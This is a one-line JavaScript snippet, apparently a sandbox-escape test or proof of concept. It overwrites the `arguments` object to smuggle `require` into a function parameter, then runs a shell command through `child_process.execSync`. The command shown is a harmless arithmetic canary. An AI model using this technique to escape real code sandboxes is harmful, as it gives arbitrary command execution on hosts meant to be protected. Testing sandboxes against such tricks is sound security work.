(function(a){ Object.assign(arguments,[require]); a('child_process').execSync('expr 40 + 1001',{stdio:'inherit'}) })(1);
